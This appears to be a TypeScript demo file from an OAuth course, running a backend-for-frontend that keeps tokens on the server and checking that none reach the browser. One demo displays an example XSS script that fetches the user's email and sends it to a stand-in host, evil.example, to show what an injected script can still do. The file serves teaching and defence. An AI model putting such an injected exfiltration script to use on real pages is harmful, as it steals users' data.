// The demos of lesson 13 (browser apps: tokens in JavaScript vs a backend-for-frontend), listed in demo-names-browser-apps.ts.
// Each runs the project's real code in-process and returns data; src/cli lays it out.

import { randomBytes } from 'node:crypto';
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { blank, exchange, opening, paragraph, recorded, withDemoWorld, type Demo, type DemoPart } from './demo-parts.js';
import type { BROWSER_APP_DEMOS } from './demo-names-browser-apps.js';
import type { AnyTokenResponse } from '../oauth/client-protocol.js';
import type { RecordedExchange, UserAgent } from '../oauth/user-agent.js';
import type { DemoWorld } from '../oauth/world.js';

type TokenFlows = typeof import('../oauth/token-flows.js');

/**
 * The name of the BFF's session cookie: a random id that names a session on the server, nothing more.
 * The __Host-Http- prefix is the one RFC 10017 §6.1.3.2 suggests: a browser keeps the cookie only if it is
 * Secure and HttpOnly, has Path=/ and no Domain, so no other host of the site can set one in its place.
 */
export const SESSION_COOKIE = '__Host-Http-swaad_session';

/**
 * The session cookie's attributes (RFC 10017 §6.1.3.2). Secure although the demo serves http://127.0.0.1:
 * browsers such as Chrome count loopback as secure and keep a Secure cookie set from it, and this is the
 * cookie a real BFF on https sends (the terminal's browser, UserAgent, ignores the attribute). SameSite=Strict:
 * the page's own calls are same-site and carry it; the page load right after the provider's redirect goes
 * without it, and needs none. The login-binding cookie stays Lax: it must come back on that redirect.
 */
export const SESSION_COOKIE_ATTRIBUTES = 'HttpOnly; Secure; SameSite=Strict; Path=/';

/**
 * The header of its own the BFF requires on every call the page's script makes (/api/*, POST /logout), a CSRF
 * defence (RFC 10017 §6.1.3.3.2): a link or a form cannot add it, and a script on another origin needs
 * a CORS preflight the BFF never approves.
 */
export const API_HEADER = { name: 'Swaad-Request', value: '1' } as const;

/**
 * The most sign-ins the BFF keeps waiting, and how long each may take: the oldest makes room (its browser
 * starts again), and one older than the login cookie's Max-Age is refused, so /login cannot fill the server.
 * The price, as with Mock Google's own waiting sign-ins: anyone sending 100 /login in a row pushes
 * out a sign-in in progress, whose user starts again. A bound has to forget someone; a real BFF
 * would also rate-limit /login per address.
 */
export const PENDING_LOGINS = { max: 100, maxAgeSeconds: 600 } as const;

/** What the BFF keeps for a signed-in browser: every token, on the server. */
interface BffSession {
  accessToken: string;
  refreshToken?: string;
  idToken: string;
  /** When the access token runs out, by Mock Google's clock. */
  expiresAtMs: number;
}

/** A sign-in under way: what the callback must match, bound to the browser that started it. */
interface PendingLogin {
  nonce: string;
  codeVerifier: string;
  browserBinding: string;
  /** When /login started it, by Mock Google's clock. */
  startedAtMs: number;
}

export interface RunningBff {
  url: string;
  /** The server-side session map, for the demo to show that the tokens are there. */
  sessions: ReadonlyMap<string, BffSession>;
  /** Every byte the BFF wrote to its callers (only the browser calls it): status lines, headers, bodies. */
  sentBytes(): string;
  close(): Promise<void>;
}

const random = () => randomBytes(32).toString('base64url');
const cookieOf = (request: IncomingMessage, name: string) => new RegExp(`(?:^|;\\s*)${name}=([^;]+)`).exec(request.headers.cookie ?? '')?.[1];

/** The page Swaad's BFF serves: lesson 9's storage page, its data from /api/me; kept short so it reads on a narrow terminal. */
export const BFF_PAGE_SCRIPT = [
  'const token = localStorage.getItem(\'access_token\');',
  'const cookies = JSON.stringify(document.cookie);',
  'fetch(\'/api/me\', { headers: { \'Swaad-Request\': \'1\' } })',
  '  .then((answer) => answer.json())',
  '  .then((me) => document.body.textContent = \'Hello, \''
  + ' + me.name',
  '    + \' | localStorage: \' + token',
  '    + \' | document.cookie: \' + cookies);',
];
const PAGE = `<!doctype html><title>Swaad</title><script>\n${BFF_PAGE_SCRIPT.join('\n')}\n</script>`;

/**
 * Starts Swaad's backend-for-frontend on 127.0.0.1: a confidential client (demo-app, with its
 * secret) that runs the code flow on the server, keeps the tokens in a session map, gives the
 * browser an HttpOnly cookie, and answers /api/me by calling userinfo with the access token
 * (refreshing it first when it has run out: one refresh per session, which the calls that find it under way
 * wait for). Its calls to Mock Google go through `backChannel`.
 */
export async function startBff(world: DemoWorld, flows: TokenFlows, backChannel: UserAgent): Promise<RunningBff> {
  const [{ authorizationUrl, jsonBodyOf }, { newCodeVerifier, s256Challenge }, { discoverIssuer }, { verifyToken }, { DEMO_CLIENT }] = await Promise.all([
    import('../oauth/client-protocol.js'), import('../protocol/pkce.js'), import('../jwt/remote-keys.js'), import('../jwt/verify.js'), import('../oauth/world.js'),
  ]);
  const issuer = world.provider.issuer;
  const { keys } = await discoverIssuer(issuer);
  const sessions = new Map<string, BffSession>();
  const pending = new Map<string, PendingLogin>();
  // One refresh per session at a time: a call that finds the access token run out while another is
  // renewing it waits for that refresh, since a rotated refresh token sent twice revokes the grant (lesson 12).
  const refreshing = new Map<string, Promise<BffSession | 'refused' | 'ended'>>();
  let base = '';

  const send = (response: ServerResponse, status: number, body: unknown, headers: Record<string, string | string[]> = {}) => {
    response.writeHead(status, { 'content-type': 'application/json', 'cache-control': 'no-store', ...headers });
    response.end(JSON.stringify(body));
  };
  const keep = (tokens: AnyTokenResponse, previous?: BffSession): BffSession => ({
    accessToken: tokens.access_token,
    // Mock Google rotates refresh tokens: the new one replaces the old (lesson 12).
    refreshToken: tokens.refresh_token ?? previous?.refreshToken,
    idToken: tokens.id_token ?? previous?.idToken ?? '',
    expiresAtMs: world.clock.nowMs() + tokens.expires_in * 1000,
  });

  const loginRanOut = (login: PendingLogin) => world.clock.nowMs() - login.startedAtMs > PENDING_LOGINS.maxAgeSeconds * 1000;
  const revoke = (refreshToken: string) => backChannel.request('POST', `${issuer}/revoke`, { form: { token: refreshToken, token_type_hint: 'refresh_token' }, headers: { authorization: `Basic ${Buffer.from(`${DEMO_CLIENT.id}:${DEMO_CLIENT.secret}`).toString('base64')}` } });

  async function login(response: ServerResponse): Promise<void> {
    const state = random();
    const login: PendingLogin = { nonce: random(), codeVerifier: newCodeVerifier(), browserBinding: random(), startedAtMs: world.clock.nowMs() };
    // The map keeps the order of /login calls: the ones that ran out are first, then the oldest makes room.
    for (const [oldState, old] of pending) {
      if (!loginRanOut(old) && pending.size < PENDING_LOGINS.max) break;
      pending.delete(oldState);
    }
    pending.set(state, login);
    const location = authorizationUrl(`${issuer}/authorize`, { clientId: DEMO_CLIENT.id, redirectUri: `${base}/callback`, scope: 'openid profile email offline_access', state, nonce: login.nonce, codeChallenge: s256Challenge(login.codeVerifier) });
    // The state is bound to this browser too, so nobody can finish a sign-in in someone else's browser.
    response.writeHead(302, { location, 'set-cookie': `swaad_login=${login.browserBinding}; HttpOnly; Secure; SameSite=Lax; Path=/callback; Max-Age=600`, 'cache-control': 'no-store' });
    response.end();
  }

  async function callback(request: IncomingMessage, response: ServerResponse, url: URL): Promise<void> {
    const state = url.searchParams.get('state') ?? '';
    const login = pending.get(state);
    // Only the browser that started the sign-in may end it: a request without its cookie leaves it waiting.
    if (!login || cookieOf(request, 'swaad_login') !== login.browserBinding) return send(response, 400, { error: 'not a sign-in this browser started' });
    pending.delete(state);
    if (loginRanOut(login)) return send(response, 400, { error: 'the sign-in took too long: start again' });
    if (url.searchParams.get('iss') !== issuer) return send(response, 400, { error: 'the answer names another issuer' });
    const code = url.searchParams.get('code');
    if (!code) return send(response, 400, { error: url.searchParams.get('error') ?? 'no code' });
    const answer = await flows.tokenEndpoint(world, backChannel, { grant_type: 'authorization_code', code, redirect_uri: `${base}/callback`, code_verifier: login.codeVerifier });
    if (answer.response.status !== 200) return send(response, 502, { error: 'the token endpoint refused the code' });
    const tokens = jsonBodyOf<AnyTokenResponse>(answer);
    // The ID token is checked as any client checks it (OIDC Core §3.1.3.7), the nonce included.
    const verification = await verifyToken(tokens.id_token ?? '', { keys, algorithms: ['RS256'], tokenType: 'JWT', issuer, audience: [DEMO_CLIENT.id], clockTolerance: 0, now: Math.floor(world.clock.nowMs() / 1000) });
    const claims = typeof verification.payload === 'object' ? verification.payload : {};
    if (!verification.valid || claims.nonce !== login.nonce) return send(response, 502, { error: 'the ID token did not pass' });
    const sessionId = random();
    sessions.set(sessionId, keep(tokens));
    // One cookie only: the login cookie runs out by itself, and its sign-in is gone from `pending` already.
    response.writeHead(303, { location: '/', 'cache-control': 'no-store', 'set-cookie': `${SESSION_COOKIE}=${sessionId}; ${SESSION_COOKIE_ATTRIBUTES}` });
    response.end();
  }

  /**
   * Renews the session's access token with its refresh token: the renewed session, or why there is none
   * (Mock Google refused, or the session ended while the refresh was on its way).
   */
  async function refresh(sessionId: string, old: BffSession, refreshToken: string): Promise<BffSession | 'refused' | 'ended'> {
    const refreshed = await flows.tokenEndpoint(world, backChannel, { grant_type: 'refresh_token', refresh_token: refreshToken });
    // Asha may have signed out meanwhile: her session stays gone, whatever Mock Google answered.
    const current = sessions.get(sessionId) === old;
    if (refreshed.response.status !== 200) {
      if (current) sessions.delete(sessionId);
      return current ? 'refused' : 'ended';
    }
    const renewed = keep(jsonBodyOf<AnyTokenResponse>(refreshed), old);
    if (current) {
      sessions.set(sessionId, renewed);
      return renewed;
    }
    // Tokens that came back for an ended session are revoked, not just dropped.
    if (renewed.refreshToken !== undefined && renewed.refreshToken !== refreshToken) await revoke(renewed.refreshToken);
    return 'ended';
  }

  async function me(request: IncomingMessage, response: ServerResponse): Promise<void> {
    const sessionId = cookieOf(request, SESSION_COOKIE);
    let session = sessionId === undefined ? undefined : sessions.get(sessionId);
    if (!session || sessionId === undefined) return send(response, 401, { error: 'not signed in' });
    if (world.clock.nowMs() >= session.expiresAtMs && session.refreshToken) {
      // The access token has run out: the BFF refreshes it, server to server, once for all the calls that wait.
      let renewal = refreshing.get(sessionId);
      if (!renewal) {
        renewal = refresh(sessionId, session, session.refreshToken).finally(() => refreshing.delete(sessionId));
        refreshing.set(sessionId, renewal);
      }
      const renewed = await renewal;
      if (renewed === 'refused') return send(response, 401, { error: 'signed out: the refresh was refused' });
      if (renewed === 'ended') return send(response, 401, { error: 'not signed in' });
      session = renewed;
    }
    const userinfo = await flows.callUserinfo(world, backChannel, session.accessToken);
    if (userinfo.response.status !== 200) return send(response, 502, { error: 'userinfo refused the access token' });
    const { name, email } = jsonBodyOf<{ name?: string; email?: string }>(userinfo);
    send(response, 200, { name, email });
  }

  async function logout(request: IncomingMessage, response: ServerResponse): Promise<void> {
    const sessionId = cookieOf(request, SESSION_COOKIE);
    const session = sessionId === undefined ? undefined : sessions.get(sessionId);
    if (session) {
      sessions.delete(sessionId!);
      // Forgetting the session is not enough: the refresh token would still work at Mock Google (RFC 7009).
      if (session.refreshToken) await revoke(session.refreshToken);
    }
    send(response, 200, { signed_out: true }, { 'set-cookie': `${SESSION_COOKIE}=; ${SESSION_COOKIE_ATTRIBUTES}; Max-Age=0` });
  }

  const routes: Record<string, (request: IncomingMessage, response: ServerResponse, url: URL) => Promise<void>> = {
    'GET /': async (_request, response) => {
      response.writeHead(200, { 'content-type': 'text/html', 'cache-control': 'no-store' });
      response.end(PAGE);
    },
    'GET /login': (_request, response) => login(response),
    'GET /callback': callback,
    'GET /api/me': me,
    'POST /logout': logout,
  };
  // Calls the page's script makes must carry the BFF's own header; page loads and redirects need none.
  const needsApiHeader = (method: string | undefined, path: string) => path.startsWith('/api/') || method === 'POST';
  const server = createServer((request, response) => {
    // A request target that is not a URL is nobody's page.
    if (!URL.canParse(request.url ?? '/', base)) return send(response, 400, { error: 'not an address this BFF serves' });
    const url = new URL(request.url ?? '/', base);
    const route = routes[`${request.method} ${url.pathname}`];
    if (!route) return send(response, 404, { error: 'not found' });
    if (needsApiHeader(request.method, url.pathname) && request.headers[API_HEADER.name.toLowerCase()] !== API_HEADER.value) {
      return send(response, 403, { error: `no ${API_HEADER.name} header: not a call from Swaad's page` });
    }
    // CSRF defence in depth, beside the header (RFC 10017 §6.1.3.3): a browser names the origin of the page behind
    // a POST or a cross-origin call; when it does, that must be Swaad's own.
    const origin = request.headers.origin;
    if (needsApiHeader(request.method, url.pathname) && origin !== undefined && origin !== base) {
      return send(response, 403, { error: 'a call from another origin: not Swaad\'s page' });
    }
    route(request, response, url).catch(() => {
      if (!response.headersSent) send(response, 500, { error: 'the BFF failed' });
    });
  });
  // What went down the wire, as written: the proof that no token reached the browser.
  const sent: Buffer[] = [];
  server.on('connection', (socket) => {
    const write = socket.write.bind(socket) as (...args: unknown[]) => boolean;
    socket.write = ((chunk: unknown, ...rest: unknown[]) => {
      sent.push(Buffer.isBuffer(chunk) ? chunk : Buffer.from(String(chunk)));
      return write(chunk, ...rest);
    }) as typeof socket.write;
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return {
    url: base,
    sessions,
    sentBytes: () => Buffer.concat(sent).toString('latin1'),
    close: () => new Promise<void>((resolve) => {
      server.close(() => resolve());
      server.closeAllConnections();
    }),
  };
}

/** What a sign-in through the BFF left behind: the browser's exchanges with the BFF and Mock Google, and the BFF's own. */
export interface BffSignIn {
  bff: RunningBff;
  browser: UserAgent;
  backChannel: UserAgent;
  /** The exchanges of the sign-in, in order: the browser's (to the BFF and Mock Google). */
  browserSignIn: RecordedExchange[];
  /** The callback's answer, which sets the session cookie. */
  callback: RecordedExchange;
}

/** Asha signs in to Swaad through its BFF: the browser opens /login, signs in and allows at Mock Google, and comes back to /callback. */
export async function signInThroughBff(world: DemoWorld, flows: TokenFlows): Promise<BffSignIn> {
  const [{ signInAtProvider }, { DEFAULT_USERS }] = await Promise.all([import('../oauth/user-agent.js'), import('../provider/directory.js')]);
  const browser = world.agent('the browser');
  const backChannel = world.agent('Swaad\'s BFF (back channel)');
  const bff = await startBff(world, flows, backChannel);
  const start = await browser.request('GET', `${bff.url}/login`);
  const asha = DEFAULT_USERS[0]!;
  const signedIn = await signInAtProvider(browser, start.response.headers.location ?? '', { email: asha.email, password: asha.password, allow: true });
  if (!signedIn.callbackUrl) throw new Error(`The sign-in at Mock Google did not come back (${signedIn.errorPage?.status ?? 'no answer'}).`);
  const callback = await browser.request('GET', signedIn.callbackUrl);
  return { bff, browser, backChannel, browserSignIn: [...browser.exchanges], callback };
}

/** Runs `use` with Mock Google, a sign-in through a fresh BFF, and closes both after. */
async function withBffSignIn<T>(use: (run: BffSignIn, world: DemoWorld, flows: TokenFlows) => Promise<T>): Promise<T> {
  return withDemoWorld(async (world, flows) => {
    const run = await signInThroughBff(world, flows);
    try {
      return await use(run, world, flows);
    } finally {
      await run.bff.close();
    }
  });
}

/** A browser exchange in a table row: the request (a sign-in's long id shortened), where, the answer (a redirect says where to). */
function browserRow(bffUrl: string, { request, response }: RecordedExchange): string[] {
  const path = new URL(request.url).pathname.replace(/\/interaction\/[\w-]+\//, '/interaction/…/');
  const at = request.url.startsWith(`${bffUrl}/`) ? 'Swaad' : 'Mock Google';
  const location = response.headers.location;
  const to = location === undefined ? '' : location.startsWith('/') || location.startsWith(bffUrl) ? ' to Swaad' : ' to Mock Google';
  const cookie = response.headers['set-cookie'] === undefined ? '' : ', sets a cookie';
  return [`${request.method} ${path}`, at, `${response.status}${to}${cookie}`];
}

/** The session cookie's Set-Cookie line (the callback sets that one alone), its random id shortened. */
function sessionCookieLine(callback: RecordedExchange): string {
  const line = callback.response.headers['set-cookie'] ?? '(none)';
  return line.replace(/=([\w-]{12,});/, (_match, id: string) => `=${opening(id)};`);
}

/** What the page's script (and a script injected into it) sends with its calls to the BFF. */
export const PAGE_CALL = { headers: { [API_HEADER.name]: API_HEADER.value } };

/** A token's place in the browser's bytes: "no" when none of them holds it. */
const reached = (bytes: string, token: string | undefined) => (token !== undefined && bytes.includes(token) ? 'YES' : 'no');

export const BROWSER_APP_DEMOS_RUN: { [Name in keyof typeof BROWSER_APP_DEMOS]: Demo } = {
  'bff-page': async () => withBffSignIn(async (run) => {
    const page = await run.browser.request('GET', `${run.bff.url}/`);
    const apiMe = await run.browser.request('GET', `${run.bff.url}/api/me`, PAGE_CALL);
    const userinfo = run.backChannel.exchanges.at(-1)!;
    // The same call without the header, as a link or a form elsewhere would send it.
    const withoutHeader = await run.browser.request('GET', `${run.bff.url}/api/me`);
    const session = [...run.bff.sessions.values()][0]!;
    const bytes = run.bff.sentBytes();
    const answers = run.browser.exchanges.filter(({ request }) => request.url.startsWith(`${run.bff.url}/`)).length;
    const cookie = sessionCookieLine(run.callback);
    const name = apiMe.response.status === 200 ? String(JSON.parse(apiMe.response.body).name) : '(no answer)';
    const documentCookie = /HttpOnly/i.test(cookie) ? '""' : JSON.stringify(cookie.split(';')[0]);
    const parts: DemoPart[] = [
      { kind: 'table', headings: ['the browser asks', 'at', 'answer'], rows: [...run.browserSignIn, page, apiMe].map((done) => browserRow(run.bff.url, done)) },
      blank,
      { kind: 'lines', lines: ['The cookie /callback set:', `  set-cookie: ${cookie}`] },
      blank,
      exchange('GET', '/api/me', `from the page: ${API_HEADER.name}: ${API_HEADER.value} and the cookie, no token`, { status: apiMe.response.status, body: JSON.parse(apiMe.response.body) }),
      recorded('from the BFF: Authorization: Bearer <Asha\'s access token>', userinfo),
      { kind: 'remark', lead: '', text: 'The page asked Swaad; Swaad\'s server added the access token and asked Mock Google\'s API.' },
      exchange('GET', '/api/me', `the cookie without the ${API_HEADER.name} header, as a link or form would send it`, { status: withoutHeader.response.status, body: JSON.parse(withoutHeader.response.body) }),
      blank,
      { kind: 'table', headings: ['token', `in the ${answers} answers Swaad sent the browser?`], rows: [
        ['access token', reached(bytes, session.accessToken)],
        ['refresh token', reached(bytes, session.refreshToken)],
        ['ID token', reached(bytes, session.idToken)],
      ] },
      paragraph('The demo searched every byte the BFF sent the browser, headers and bodies, for each token. All three stay in the BFF\'s session map, on the server.'),
      blank,
      { kind: 'code', heading: 'The page\'s script (lesson 9\'s, with a BFF):', lines: BFF_PAGE_SCRIPT },
      blank,
      paragraph(`In a browser this page shows: Hello, ${name} | localStorage: null | document.cookie: ${documentCookie}`),
      paragraph('The demo plays the browser with a small HTTP client and does not run the script; a browser runs it as shown. Nothing put a token in localStorage, and document.cookie leaves out an HttpOnly cookie.'),
    ];
    return { parts, saved: {}, ok: apiMe.response.status === 200 && withoutHeader.response.status === 403 && !bytes.includes(session.accessToken) };
  }),

  'bff-injected-script': async () => withBffSignIn(async (run, world) => {
    const fromScript = await run.browser.request('GET', `${run.bff.url}/api/me`, PAGE_CALL);
    // 16 minutes on, by Mock Google's clock: Asha's 15-minute access token has run out.
    world.clock.skip(16 * 60);
    const sentBefore = run.backChannel.exchanges.length;
    const later = await run.browser.request('GET', `${run.bff.url}/api/me`, PAGE_CALL);
    const serverSide = run.backChannel.exchanges.slice(sentBefore);
    const refreshTokens = run.backChannel.exchanges.filter(({ request }) => request.url.endsWith('/token')).map((done) => String(JSON.parse(done.response.body).refresh_token));
    const leaked = refreshTokens.some((token) => run.bff.sentBytes().includes(token));
    const logout = await run.browser.request('POST', `${run.bff.url}/logout`, PAGE_CALL);
    const revoked = run.backChannel.exchanges.at(-1)!;
    const afterLogout = await run.browser.request('GET', `${run.bff.url}/api/me`, PAGE_CALL);
    const json = (done: RecordedExchange) => ({ status: done.response.status, body: JSON.parse(done.response.body) as unknown });
    const parts: DemoPart[] = [
      { kind: 'code', heading: 'A script injected into the page (an XSS bug):', lines: [
        'localStorage.getItem(\'access_token\');  // null',
        'document.cookie;  // ""',
        'fetch(\'/api/me\', { headers: { \'Swaad-Request\': \'1\' } })',
        '  .then((answer) => answer.json())',
        '  .then((me) => fetch(\'https://evil.example/?\' + me.email));',
      ] },
      blank,
      exchange('GET', '/api/me', 'from the injected script: it adds the header, the browser the cookie', json(fromScript)),
      { kind: 'remark', lead: '', text: 'Swaad cannot tell this request from the page\'s own: the script runs in the page, so it can send the header too, and it acts as Asha while the page is open.' },
      blank,
      paragraph('16 minutes later (the demo moves Mock Google\'s clock on): the access token has run out.'),
      exchange('GET', '/api/me', 'from the page, the same cookie', json(later)),
      ...serverSide.map((done) => recorded(done.request.url.endsWith('/token') ? 'from the BFF: grant_type=refresh_token, the refresh token, the client secret' : 'from the BFF: Bearer <the new access token>', done)),
      { kind: 'remark', lead: '', text: leaked ? 'The refresh went from Swaad\'s server to Mock Google and back, but a refresh token reached the browser too.' : 'The refresh went from Swaad\'s server to Mock Google and back. The browser saw one 200; the refresh tokens, old and new, are in none of the bytes Swaad sent it.' },
      blank,
      exchange('POST', '/logout', 'Asha signs out', json(logout)),
      recorded('from the BFF: the refresh token, to be revoked', revoked),
      exchange('GET', '/api/me', 'the injected script tries again', json(afterLogout)),
      blank,
      paragraph('Once the session ends, so does the script\'s hold on Asha\'s account: it never held a token it could carry away and use from elsewhere. On lesson 9\'s page it could have copied the access token, and a refresh token kept there would have let it get new access tokens from anywhere, until its expiry or a revocation; reuse detection (lesson 12) catches it only if the app uses the same token again (RFC 10017 §5.1.2).'),
    ];
    return { parts, saved: {}, ok: !leaked && fromScript.response.status === 200 && later.response.status === 200 && afterLogout.response.status === 401 };
  }),
};
